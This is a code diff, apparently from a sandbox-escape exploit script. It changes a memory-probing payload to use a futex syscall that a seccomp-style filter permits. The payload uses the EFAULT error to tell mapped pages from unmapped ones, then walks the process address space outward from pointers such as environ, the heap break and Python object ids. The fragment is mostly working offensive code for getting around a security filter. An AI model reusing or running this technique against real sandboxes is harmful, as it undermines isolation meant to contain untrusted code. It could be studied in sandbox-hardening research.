@@ -57,17 +57,21 @@ for place in range(start, end - 4096, 1 << 20):
 return False
 """
 
-# The whole address space: sigaltstack, which the filter allows, tells mapped pages (any answer)
-# from unmapped ones (EFAULT), so that we can walk out from every place we know, and never fall.
+# The whole address space: a futex that is waited for, which the filter allows, tells mapped pages
+# (any answer) from unmapped ones (EFAULT), so that we can walk out from every place we know, and
+# never fall.
 _EVERYTHING = f"""
 ctypes = grab("ctypes")
 libc = ctypes.CDLL(None, use_errno=True)
 libc.sbrk.restype = ctypes.c_ssize_t
 ask = libc.syscall
-ask.restype, ask.argtypes = ctypes.c_long, [ctypes.c_long, ctypes.c_ulong, ctypes.c_ulong]
+ask.restype = ctypes.c_long
+ask.argtypes = [ctypes.c_long, ctypes.c_ulong, ctypes.c_long, ctypes.c_long, ctypes.c_char_p]
+at_once = bytes(16)
 
 def mapped(page):
-    return ask({nr("sigaltstack")}, page << 12, 0) == 0 or ctypes.get_errno() != 14
+    ask({nr("futex")}, page << 12, 128, 1, at_once)
+    return ctypes.get_errno() != 14
 
 stack = ctypes.c_void_p.in_dll(libc, "environ").value or 0
 places = [id(None), id(holds), id(response), libc.sbrk(0) - 1, stack]
